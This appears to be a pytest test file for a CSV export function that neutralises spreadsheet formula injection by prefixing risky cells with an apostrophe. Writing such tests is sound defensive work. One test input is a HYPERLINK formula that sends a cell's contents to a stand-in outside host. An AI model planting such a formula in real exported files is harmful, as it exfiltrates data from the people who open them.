"""Tables as CSV: every text comes back as it was, and none of it runs in a spreadsheet program."""

import csv
import io
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.core import delimited

TEXT = st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=30)


def read(rows):
    text = b"".join(delimited.lines(("A", "B"), rows)).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))[1:]


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("https://x.example/?"&A1)', "  =1", "\n=1", " \t=1"],
)
def test_text_that_would_run_gets_an_apostrophe(text):
    """Domain rule: neutralise a leading = + - @ tab CR, also behind what a program skips."""
    assert read([(text, 1)]) == [[f"'{text}", "1"]]


@pytest.mark.parametrize("text", ["", "577412936450128731", "a=1", "O'Neill", 'say "hi", then', "2026-11-23", "é漢🛒"])
def test_plain_text_stays_as_it_is(text):
    assert read([(text, None)]) == [[text, ""]]


@given(st.lists(st.tuples(TEXT, TEXT), max_size=5))
def test_no_cell_begins_like_a_formula_and_none_breaks_its_row(rows):
    found = read(rows)
    assert [[cell.removeprefix("'") for cell in row] for row in found] == [
        [cell.removeprefix("'") for cell in row] for row in rows
    ]
    assert not any(cell.startswith(delimited.STARTS_FORMULA) for row in found for cell in row)


def test_numbers_stay_numbers_and_instants_name_their_zone():
    """A negative amount is ours, not foreign text: an apostrophe would make it text."""
    at = datetime(2026, 11, 23, 8, 50, 12, 345, tzinfo=UTC)
    assert read([(-5, Decimal("-12.30")), (at, at.astimezone(timezone(timedelta(hours=-8))))]) == [
        ["-5", "-12.30"],
        ["2026-11-23 08:50:12+00:00", "2026-11-23 00:50:12-08:00"],
    ]


def test_text_that_no_encoding_takes_does_not_break_the_file():
    assert read([("a\0b", "half \ud83d letter")]) == [["ab", "half ? letter"]]
